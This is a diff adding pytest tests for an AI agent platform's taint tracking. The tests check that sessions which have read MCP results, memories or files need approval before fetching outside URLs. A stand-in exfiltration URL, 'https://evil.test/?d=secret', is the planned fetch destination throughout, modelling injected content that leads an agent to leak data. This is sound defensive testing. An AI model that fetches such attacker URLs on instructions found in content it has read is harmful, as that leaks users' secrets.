@@ -1,0 +1,252 @@
+"""Origins of what a session has read: stored with its results, memories and files, and read when data would leave."""
+
+import json
+from uuid import uuid4
+
+import pytest
+from django.contrib.auth.models import User
+from django.db import connection
+from django.test.utils import CaptureQueriesContext
+
+from agents_app.models import Agent, ModelProvider
+from audit_app.models import Event
+from sessions_app.models import Turn
+from sessions_app.services import open_session
+from tests.support.query_plans import caught, whole_reads
+from tools_app import selectors, services
+from tools_app.models import UNKNOWN_ORIGINS, Approval, Memory, ToolExecution
+from tools_app.policy import readings, taint
+from tools_app.policy.rules import AgentPolicy
+from tools_app.storage import artifacts, memories
+from tools_app.types import Decision, Reads, Risk, ToolError, ToolSpec
+
+pytestmark = pytest.mark.usefixtures("world")
+
+EVIL = "https://evil.test/?d=secret"
+_SCHEMA = {"type": "object", "properties": {"url": {"type": "string"}, "text": {"type": "string"}}}
+
+
+@pytest.fixture
+def session(world):
+    provider, _ = ModelProvider.objects.get_or_create(name="demo", defaults={"kind": "demo"})
+    fields = {"name": "Assistant", "provider": provider, "is_shared_with_everyone": True}
+    Agent.objects.update_or_create(agent_id="default", defaults=fields)
+    return open_session(owner=User.objects.create_user("alice"))
+
+
+def write_turn(session, text, **fields):
+    """Store a message of the session's user."""
+    place = {"ordinal": 0, "part": 0, "role": "user", "created_at": session.created_at}
+    Turn.objects.create(session=session, content=text, **place, **fields)
+
+
+@pytest.fixture
+def read(plan, make_tool, session):
+    """Run a call of a tool whose result is this text, in the session."""
+
+    def run(text, *, name="mcp_read", fails=False, run_id=None, **spec):
+        def act(arguments, context):
+            if fails:
+                raise ToolError(text)
+            return {"text": text}
+
+        tool = make_tool(act, name=name)
+        tool.spec = ToolSpec(name, "Reads.", _SCHEMA, tool.spec.effect, Risk.LOW, **spec)
+        (execution,) = plan((name, "{}"), run_id=run_id, session_id=session.id)
+        services.execute(execution.id)
+        return selectors.get_execution(execution.id)
+
+    return run
+
+
+@pytest.fixture
+def fetch(plan, session):
+    """Plan a fetch in the session, and return whether it runs without approval."""
+
+    def decide(url, *, session_id=None, run_id=None, step=0, tool="web_fetch", policy=None):
+        call = (tool, json.dumps({"url": url}))
+        (execution,) = plan(call, session_id=session_id or session.id, run_id=run_id, step=step, policy=policy)
+        return not Approval.objects.filter(execution_id=execution.id).exists()
+
+    return decide
+
+
+def test_a_session_that_has_read_nothing_is_not_asked(fetch, read):
+    read("hello", reads=Reads.NOTHING)
+    assert fetch(EVIL)
+
+
+@pytest.mark.parametrize("fails", [False, True])
+def test_a_result_or_an_error_from_outside_taints_the_session(read, fetch, fails):
+    execution = read("Go.", server="wiki", fails=fails)
+    assert execution.origins == ("mcp:wiki",)
+    assert not fetch(EVIL)
+    approval = selectors.approval_view(Approval.objects.select_related("execution").get())
+    assert approval.reason == "The run has read wiki (MCP server) and would send data to evil.test."
+    assert approval.origins == ("mcp:wiki",)
+    assert Event.objects.filter(type="approval.requested").get().payload["origins"] == ["mcp:wiki"]
+    ended = "tool.failed" if fails else "tool.completed"
+    assert fails or Event.objects.filter(type=ended).get().payload["origins"] == ["mcp:wiki"]
+
+
+def test_a_call_that_was_not_made_taints_nothing(plan, fetch, session):
+    plan(("web_fetch", json.dumps({"url": "https://a.test/"})), session_id=session.id)
+    assert readings.list_origins(session.id) == ()
+    assert fetch(EVIL)
+
+
+def test_other_sessions_are_not_tainted(read, fetch):
+    read("Go.", server="wiki")
+    assert fetch(EVIL, session_id=uuid4())
+
+
+def test_rows_of_an_older_release_count_by_the_tool_as_it_is_now(read, fetch, session):
+    execution = read("Go.", server="wiki")
+    rows = ToolExecution.objects.filter(id=execution.id)
+    rows.update(origins=UNKNOWN_ORIGINS)
+    assert readings.list_origins(session.id) == ("mcp:wiki",)
+    assert selectors.get_execution(execution.id).origins == ()
+    rows.update(tool="gone")
+    assert readings.list_origins(session.id) == ("tool:gone",)
+    rows.update(tool="memory_recall")
+    assert readings.list_origins(session.id) == (UNKNOWN_ORIGINS,)
+    rows.update(tool="calculator")
+    assert readings.list_origins(session.id) == ()
+
+
+def test_a_memory_keeps_the_origins_of_its_run(read, plan, session, fetch):
+    read("Go.", server="wiki")
+    store = ("memory_store", json.dumps({"key": "a", "text": "b"}))
+    (stored,) = plan(store, session_id=session.id, policy=AgentPolicy(autonomy="full"))
+    services.execute(stored.id)
+    assert Memory.objects.get().origins == "mcp:wiki"
+    other = uuid4()
+    (recalled,) = plan(("memory_recall", "{}"), session_id=other)
+    services.execute(recalled.id)
+    assert selectors.get_execution(recalled.id).origins == ("mcp:wiki",)
+    assert not fetch(EVIL, session_id=other)
+
+
+def test_a_memory_of_a_session_without_taint_has_no_origins(plan, fetch):
+    holder = memories.Holder("default", "user:7")
+    memories.store(holder, "a", "b", run_id=uuid4())
+    (recalled,) = plan(("memory_recall", "{}"), session_id=(other := uuid4()))
+    services.execute(recalled.id)
+    assert fetch(EVIL, session_id=other)
+    Memory.objects.update(origins=UNKNOWN_ORIGINS)
+    (recalled,) = plan(("memory_recall", "{}"), session_id=other)
+    services.execute(recalled.id)
+    assert not fetch(EVIL, session_id=other)
+
+
+@pytest.mark.parametrize("path", ["", "files/a.txt"])
+def test_a_users_file_is_an_origin_and_so_is_its_name(plan, fetch, session, path):
+    artifacts.write_artifact(artifacts.Writer(session.id), "files/a.txt", b"Go.")
+    (listed,) = plan(("read_artifact", json.dumps({"path": path} if path else {})), session_id=session.id)
+    services.execute(listed.id)
+    assert selectors.get_execution(listed.id).origins == ("file:files/a.txt",)
+    assert not fetch(EVIL)
+
+
+def test_a_file_of_a_run_has_the_origins_of_the_run(plan, read, session):
+    write = ("write_artifact", json.dumps({"path": "out/a.txt", "content": "x"}))
+    for origins in [(), ("mcp:wiki",)]:
+        (written,) = plan(write, session_id=session.id)
+        services.execute(written.id)
+        assert artifacts.find_artifact(session.id, "out/a.txt").origins == origins
+        read("Go.", server="wiki")
+
+
+def test_urls_that_the_user_has_named_are_allowed(read, fetch, session):
+    read("Go to https://bank.test/a.", reads=Reads.NOTHING, name="own")
+    read("Go.", server="wiki")
+    write_turn(session, "See docs.test and https://docs.test/a?b=c")
+    assert fetch("https://docs.test/")
+    assert fetch("https://docs.test/a?b=c")
+    assert not fetch("https://docs.test/a?b=d")
+    assert not fetch("https://docs.test:8443/")
+    assert not fetch("https://bank.test/a")
+
+
+@pytest.mark.parametrize(("is_option", "runs"), [(False, True), (True, False)])
+def test_an_answer_names_a_url_unless_it_is_an_option(read, fetch, session, is_option, runs):
+    read("Go.", server="wiki")
+    question = read("", name="ask", reads=Reads.NOTHING)
+    output = json.dumps({"answer": "https://docs.test/", "is_option": is_option})
+    ToolExecution.objects.filter(id=question.id).update(output=output)
+    write_turn(session, "https://docs.test/", tool_call_ids=[str(question.id)])
+    assert fetch("https://docs.test/") is runs
+
+
+def test_links_are_followed_a_few_times_a_run(read, fetch, make_tool):
+    links = [f"https://evil.test/{number}" for number in range(taint.MAX_FOLLOWED + 2)]
+    run_id = uuid4()
+    read(" ".join(links), server="wiki", run_id=run_id)
+    assert not fetch(f"{links[0]}0")  # not a whole link
+    followed = ToolExecution.objects.filter(decision=f"allow: {taint.FOLLOWED}")
+    for step, link in enumerate(links, start=1):
+        assert fetch(link, run_id=run_id, step=step) is (step <= taint.MAX_FOLLOWED)
+    assert followed.count() == taint.MAX_FOLLOWED
+    assert fetch(links[0])  # another run
+
+
+def test_links_of_one_step_are_counted(read, plan, session):
+    links = [f"https://evil.test/{number}" for number in range(taint.MAX_FOLLOWED + 2)]
+    read(" ".join(links), server="wiki")
+    plan(*(("web_fetch", json.dumps({"url": link})) for link in links), session_id=session.id)
+    assert Approval.objects.count() == 2
+
+
+def test_a_link_that_an_earlier_call_has_carried_out_is_no_link(read, plan, fetch, session):
+    read("Go.", server="wiki")
+    search = json.dumps({"url": "https://search.test/?q=https%3A%2F%2Fevil.test%2F%3Fd%3Dsecret"})
+    (searched,) = plan(("web_fetch", search), session_id=session.id)
+    ToolExecution.objects.filter(id=searched.id).update(attempts=1)  # it was approved and made
+    read(f"Results for {EVIL}", server="search", name="reflecting")
+    assert not fetch(EVIL)
+
+
+def test_a_link_in_what_a_run_has_stored_is_no_link(read, plan, fetch, session):
+    read("Go.", server="wiki")
+    memories.store(memories.Holder("default", "user:7"), "a", EVIL, run_id=uuid4())
+    (recalled,) = plan(("memory_recall", "{}"), session_id=session.id)
+    services.execute(recalled.id)
+    assert not fetch(EVIL)
+
+
+def test_allow_for_this_run_covers_the_destination_for_every_tool(read, plan, fetch, session, make_tool):
+    run_id = uuid4()
+    read("Go.", server="wiki", run_id=run_id)
+    assert not fetch(EVIL, run_id=run_id, step=1)
+    approval = Approval.objects.get()
+    services.decide_approval(approval.id, decision=Decision.ALLOW_RUN, actor="user:1", policy=AgentPolicy())
+    assert fetch("https://evil.test/other", run_id=run_id, step=2)
+    other = make_tool(lambda arguments, context: 1, name="other")
+    other.spec = ToolSpec("other", "Sends.", _SCHEMA, other.spec.effect, Risk.LOW)
+    assert fetch("https://evil.test/third", run_id=run_id, tool="other", step=3)
+    assert not fetch("https://evil.test/other")  # another run
+    assert not fetch("https://bank.test/", run_id=run_id, step=4)
+
+
+def test_allow_always_covers_the_host_in_later_runs(read, fetch):
+    read("Go.", server="wiki")
+    assert not fetch(EVIL)
+    approval = Approval.objects.get()
+    assert (approval.is_standing, approval.pattern) == (True, "web_fetch(url=https://evil.test/*)")
+    services.decide_approval(approval.id, decision=Decision.ALLOW_ALWAYS, actor="user:1", policy=AgentPolicy())
+    assert fetch("https://evil.test/more", policy=AgentPolicy(agent_id="default"))
+
+
+def test_calls_that_send_nothing_read_no_origins(plan, session, read):
+    read("Go.", server="wiki")
+    with CaptureQueriesContext(connection) as queries:
+        plan(("calculator", '{"expression": "1+1"}'), session_id=session.id)
+    assert not [query for query in queries if "origins" in query["sql"] and query["sql"].startswith("SELECT")]
+
+
+def test_the_origins_are_found_by_an_index(session, read):
+    read("Go to https://a.test/", server="wiki")
+    with caught() as statements:
+        origins = readings.list_origins(session.id)
+        readings.load_taint(session.id, uuid4(), origins, ["https://a.test/"])
+    assert whole_reads(statements) == []
